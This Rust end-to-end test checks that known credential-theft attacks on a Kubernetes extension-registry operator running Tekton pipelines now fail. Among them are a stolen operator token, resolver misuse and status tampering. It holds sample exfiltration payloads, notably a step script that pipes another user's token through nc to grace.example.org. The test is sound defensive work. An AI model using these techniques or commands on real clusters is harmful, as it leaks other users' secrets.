//! Attacks that once gave a user the credentials of another, or extended the operator's token. Each is
//! repeated on a cluster with the chart and a running operator, and must fail. `grace` has the role `edit`
//! and may start any run, but cannot read Secrets.
#![expect(clippy::unwrap_used, reason = "helpers of tests")]

#[path = "support/identity.rs"]
mod identity;
mod support;
#[path = "support/users.rs"]
mod users;

use std::time::Duration;

use extension_registry_api::RUN_BY_ANNOTATION;
use extension_registry_e2e::cluster::Node;
use extension_registry_e2e::{Cluster, Installed, Options};
use identity::{
    ENGINE, PROJECT, TEAM, create_roles, no_pod_for_grace, run, secret_of, user_of_run,
    user_record, user_workflow,
};
use kube::Client;
use kube::api::{DeleteParams, Patch, PatchParams, PostParams, PropagationPolicy};
use serde_json::{Value, json};
use support::{TestEnv, condition, eventually, record, secret_name, section, text, workflow};
use users::{client_from_kubeconfig, create, create_dry, impersonate, objects};

struct Scene {
    env: TestEnv,
    ada: Client,
    grace: Client,
    engine: Client,
    admin: Client,
    /// Name of the rendered Secret of `ada`.
    secret: String,
}

#[tokio::test(flavor = "multi_thread")]
async fn known_attacks_fail() {
    let options = Options {
        node: Node::None,
        ..Options::default()
    };
    let cluster = Cluster::start(options).await.unwrap();
    let installed = Installed::without_webhook(&cluster).unwrap();
    let env = TestEnv::new(cluster, installed, "findings", &[]);
    env.namespace(PROJECT);
    create_roles(&env).await;
    env.apply(&user_record()).await;
    let mut scene = Scene {
        ada: impersonate(&env.cluster, "ada", &[TEAM]),
        grace: impersonate(&env.cluster, "grace", &[TEAM]),
        engine: impersonate(&env.cluster, ENGINE, &["system:masters"]),
        admin: env.cluster.client(),
        secret: String::new(),
        env,
    };
    create(&scene.ada, &user_workflow("train"), &PostParams::default())
        .await
        .unwrap();
    scene.secret = secret_of(&scene.env.wait_until_ready(PROJECT, "train").await);
    secret_named_in_a_workflow_yields_no_value(&scene).await;
    names_with_parameters_bypass_no_policy(&scene).await;
    orphaned_pipeline_yields_no_secret(&scene).await;
    fetched_tasks_yield_no_secret(&scene).await;
    operator_token_cannot_change_foreign_pipelines(&scene).await;
    replaced_secret_is_a_conflict(&scene).await;
    orphaned_projection_leaves_no_secret(&scene).await;
    status_of_run_cannot_be_written(&scene).await;
    scene.env.stop().await;
}

async fn secret_named_in_a_workflow_yields_no_value(scene: &Scene) {
    section("a workflow that names the Secret of another user gets no value");
    let mut stealing = workflow(PROJECT, "thief", &json!({}));
    let from = json!({"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}});
    stealing["spec"]["steps"] =
        json!([{"name": "train", "image": "i", "env": [{"name": "T", "valueFrom": from}]}]);
    // Refused or stored: in both cases the run belongs to another user.
    match create(&scene.grace, &stealing, &PostParams::default()).await {
        Err(message) => assert!(message.contains("ext-"), "{message}"),
        Ok(()) => {
            scene
                .env
                .wait_until(("Workflow", PROJECT, "thief"), "is reconciled", |object| {
                    !condition(object, "Ready")["status"].is_null()
                })
                .await;
        }
    }
    no_pod_for_grace(&scene.env, &scene.secret).await;
}

async fn names_with_parameters_bypass_no_policy(scene: &Scene) {
    section("names with parameters do not bypass the policies");
    let env = &scene.env;
    env.apply(&record("attack", &json!([{"name": "all"}])))
        .await;
    create(
        &scene.ada,
        &workflow(PROJECT, "held", &json!({"product": "attack"})),
        &PostParams::default(),
    )
    .await
    .unwrap();
    env.wait_until_ready(PROJECT, "held").await;
    env.delete("ClusterExtension", "", "attack").await;
    env.wait_until_refused_without_spec_change(PROJECT, "held", "NotFound")
        .await;
    let param = |name: &str, value: &str| json!({"name": name, "value": value});
    let resolver =
        |params: Value| json!({"pipelineRef": {"resolver": "cluster", "params": params}});
    let kind = param("kind", "pipeline");
    let specs = [
        resolver(json!([
            kind,
            param("name", "$(params.n)"),
            param("namespace", PROJECT)
        ])),
        resolver(json!([
            kind,
            param("name", "held"),
            param("namespace", "x"),
            param("namespace", PROJECT)
        ])),
        json!({"pipelineRef": {"name": "he$(params.n)"}}),
        json!({"pipelineRef": {"name": "$(context.pipelineRun.name)"}}),
        json!({"pipelineRef": {"name": "held"}}),
    ];
    for spec in specs {
        let mut run = run("x");
        run["metadata"]["name"] = json!("held");
        run["spec"] = spec;
        run["spec"]["params"] = json!([param("n", "held")]);
        run["spec"]["taskRunTemplate"] = json!({"podTemplate": {"hostAliases": [
            {"ip": "10.0.0.1", "hostnames": ["store.example.org"]}]}});
        eventually(
            Duration::from_mins(1),
            "the run is refused",
            async || match create_dry(&scene.grace, &run).await {
                Err(message) if message.contains("on hold") => Ok(()),
                other => Err(format!("{other:?}")),
            },
        )
        .await;
    }
    // If nothing is held, such a run starts, and its Pods get no Secret.
    no_pod_for_grace(&scene.env, &scene.secret).await;
    env.delete("Workflow", PROJECT, "held").await;
}

async fn orphaned_pipeline_yields_no_secret(scene: &Scene) {
    section("the Pipeline of an orphaned workflow is held, and yields no Secret to another user");
    let env = &scene.env;
    create(&scene.ada, &user_workflow("left"), &PostParams::default())
        .await
        .unwrap();
    env.wait_until_ready(PROJECT, "left").await;
    // The garbage collector discovers new kinds every 30 seconds.
    eventually(
        Duration::from_mins(4),
        "the collector knows Pipelines",
        async || match env.get("Pipeline", PROJECT, "held").await {
            Value::Null => Ok(()),
            pipeline => Err(pipeline.to_string()),
        },
    )
    .await;
    let orphan = DeleteParams {
        propagation_policy: Some(PropagationPolicy::Orphan),
        ..DeleteParams::default()
    };
    let workflows = objects(
        &scene.grace,
        "registry.fuseml.io/v1alpha1",
        "Workflow",
        PROJECT,
    );
    workflows.delete("left", &orphan).await.map(drop).unwrap();
    eventually(
        Duration::from_mins(1),
        "the run is refused",
        async || match create_dry(&scene.grace, &run("left")).await {
            Err(message) if message.contains("(Orphaned)") => Ok(()),
            other => Err(format!("{other:?}")),
        },
    )
    .await;
    no_pod_for_grace(&scene.env, &scene.secret).await;
}

async fn fetched_tasks_yield_no_secret(scene: &Scene) {
    section("fetched tasks run as the user who started the run");
    let git =
        json!({"resolver": "git", "params": [{"name": "url", "value": "https://git.example.org"}]});
    let mut fetched = run("x");
    fetched["spec"] = json!({"pipelineRef": git});
    fetched["metadata"]["annotations"] = json!({RUN_BY_ANNOTATION: "ada"});
    assert_eq!(user_of_run(&scene.grace, &fetched).await, "grace");
    // The engine validates fetched tasks with a dry run.
    let metadata = json!({"annotations": {RUN_BY_ANNOTATION: "ada"}});
    for spec in [
        json!({"tasks": [{"name": "t", "taskSpec": {"metadata": metadata, "steps": []}}]}),
        json!({"tasks": []}),
    ] {
        let pipeline = json!({
            "apiVersion": "tekton.dev/v1", "kind": "Pipeline", "spec": spec,
            "metadata": {"namespace": PROJECT, "name": "fetched", "annotations": metadata["annotations"]},
        });
        let message = create_dry(&scene.engine, &pipeline).await.unwrap_err();
        assert!(message.contains("reserved for runs"), "{message}");
    }

    section("no resolver sends the Secret elsewhere");
    let params = json!([
        {"name": "url", "value": "https://grace.example.org"},
        {"name": "http-username", "value": "x"},
        {"name": "http-password-secret", "value": scene.secret},
        {"name": "http-password-secret-key", "value": "TOKEN"},
    ]);
    let request = json!({
        "apiVersion": "resolution.tekton.dev/v1beta1", "kind": "ResolutionRequest",
        "metadata": {"namespace": PROJECT, "name": "http"}, "spec": {"params": params},
    });
    let message = create_dry(&scene.engine, &request).await.unwrap_err();
    assert!(
        message.contains("is not available to resolvers"),
        "{message}"
    );
}

async fn operator_token_cannot_change_foreign_pipelines(scene: &Scene) {
    section("a stolen token of the operator cannot change foreign Pipelines or runs");
    let token = client_from_kubeconfig(scene.env.installed.kubeconfig()).await;
    let foreign = json!({
        "apiVersion": "tekton.dev/v1", "kind": "Pipeline",
        "metadata": {"namespace": PROJECT, "name": "foreign"}, "spec": {"tasks": []},
    });
    create(&scene.grace, &foreign, &PostParams::default())
        .await
        .unwrap();
    let mut started = run("foreign");
    started["metadata"]["name"] = json!("started");
    create(&scene.grace, &started, &PostParams::default())
        .await
        .unwrap();
    let force = PatchParams::apply("extension-registry").force();
    let stolen = json!({"spec": {"tasks": [{"name": "mine"}]}});
    let labels = json!({"metadata": {"labels": {"app": "mine"}}});
    let cases = [
        (
            "Pipeline",
            "foreign",
            &stolen,
            "a Pipeline controlled by the Workflow of the same name",
        ),
        (
            "Pipeline",
            "foreign",
            &labels,
            "a Pipeline controlled by the Workflow of the same name",
        ),
        ("PipelineRun", "started", &stolen, "denied request"),
        (
            "PipelineRun",
            "started",
            &labels,
            "may only change the annotation registry.fuseml.io/bindings of a PipelineRun",
        ),
    ];
    for (kind, name, patch, expected) in cases {
        let api = objects(&token, "tekton.dev/v1", kind, PROJECT);
        let mut applied = patch.clone();
        applied["apiVersion"] = json!("tekton.dev/v1");
        applied["kind"] = json!(kind);
        for message in [
            api.patch(name, &PatchParams::default(), &Patch::Merge(patch))
                .await,
            api.patch(name, &force, &Patch::Apply(&applied)).await,
        ] {
            let message = message.unwrap_err().to_string();
            assert!(message.contains(expected), "{kind}: {message}");
        }
    }
}

async fn replaced_secret_is_a_conflict(scene: &Scene) {
    section("a foreign Secret does not replace a rendered one");
    let env = &scene.env;
    env.apply(&record(
        "store",
        &json!([{"name": "main", "configuration": [{"name": "KEY", "value": "v"}]}]),
    ))
    .await;
    create(
        &scene.ada,
        &workflow(PROJECT, "stores", &json!({"product": "store"})),
        &PostParams::default(),
    )
    .await
    .unwrap();
    env.wait_until_ready(PROJECT, "stores").await;
    let name = secret_name("store", "main");
    let foreign = json!({
        "apiVersion": "v1", "kind": "Secret", "type": "servicebinding.io/s3",
        "metadata": {"namespace": PROJECT, "name": name}, "stringData": {"KEY": "mine"},
    });
    env.delete("Secret", PROJECT, &name).await;
    let message = create_dry(&scene.admin, &foreign).await.unwrap_err();
    assert!(
        message.contains("or the name of a rendered Secret"),
        "{message}"
    );

    section(
        "without the policy, the workflow is not ready until the operator owns the Secret again",
    );
    let binding = env.lift_policy("managed-secrets");
    eventually(Duration::from_mins(1), "the policy is lifted", async || {
        create(&scene.admin, &foreign, &PostParams::default()).await
    })
    .await;
    // A new run makes the operator check its Secrets.
    let mut check = run("stores");
    check["metadata"]["name"] = json!("checks");
    create(&scene.ada, &check, &PostParams::default())
        .await
        .unwrap();
    env.wait_until_refused_without_spec_change(PROJECT, "stores", "SecretConflict")
        .await;
    let projection = env.get("ExtensionProjection", PROJECT, &name).await;
    assert_eq!(condition(&projection, "Ready")["reason"], "SecretConflict");
    assert!(projection["status"]["secret"].is_null(), "{projection}");
    let gate = env.get("RunGate", PROJECT, "extension-registry").await;
    assert_eq!(gate["spec"]["heldPipelines"]["stores"], "SecretConflict");
    // The conflict does not resolve by itself.
    env.wait_until_settled(&["Workflow", "ExtensionProjection"])
        .await;
    env.wait_until_refused_without_spec_change(PROJECT, "stores", "SecretConflict")
        .await;
    env.cluster.apply(&binding).unwrap();
    env.delete("Secret", PROJECT, &name).await;
    env.wait_until_ready(PROJECT, "stores").await;
    let rendered = env.get("Secret", PROJECT, &name).await;
    assert_eq!(
        rendered["metadata"]["ownerReferences"][0]["kind"],
        "ExtensionProjection"
    );
}

async fn orphaned_projection_leaves_no_secret(scene: &Scene) {
    section("a projection cannot be deleted without its Secret");
    let env = &scene.env;
    let delete = [
        "delete",
        "extp",
        &scene.secret,
        "-n",
        PROJECT,
        "--cascade=orphan",
    ];
    let message = env.cluster.kubectl_run(&delete).unwrap_err().to_string();
    assert!(
        message.contains("delete it without --cascade=orphan"),
        "{message}"
    );
    let secrets = objects(&scene.admin, "v1", "Secret", PROJECT);
    let stripped = Patch::Merge(json!({"metadata": {"ownerReferences": []}}));
    let message = secrets
        .patch(&scene.secret, &PatchParams::default(), &stripped)
        .await;
    let message = message.unwrap_err().to_string();
    assert!(
        message.contains("metadata.ownerReferences: a rendered Secret"),
        "{message}"
    );
    let owner = &env.get("Secret", PROJECT, &scene.secret).await["metadata"]["ownerReferences"][0];
    assert_eq!(text(&owner["name"]), scene.secret);
}

async fn status_of_run_cannot_be_written(scene: &Scene) {
    section("the status of a run cannot change what it executes");
    let mut ada_run = run("train");
    ada_run["metadata"]["name"] = json!("hers");
    create(&scene.ada, &ada_run, &PostParams::default())
        .await
        .unwrap();
    let variables = json!([{"name": "T", "valueFrom": {"secretKeyRef": {"name": scene.secret, "key": "TOKEN"}}}]);
    let step = json!({"name": "s", "image": "i", "env": variables, "script": "echo $T | nc grace.example.org 80"});
    let status = json!({"status": {"pipelineSpec": {"tasks": [{"name": "t", "taskSpec": {"steps": [step]}}]}}});
    for client in [&scene.grace, &scene.admin] {
        let runs = objects(client, "tekton.dev/v1", "PipelineRun", PROJECT);
        let message = runs
            .patch_status("hers", &PatchParams::default(), &Patch::Merge(&status))
            .await
            .unwrap_err()
            .to_string();
        assert!(
            message.contains("only the pipeline engine can write the status"),
            "{message}"
        );
    }
}
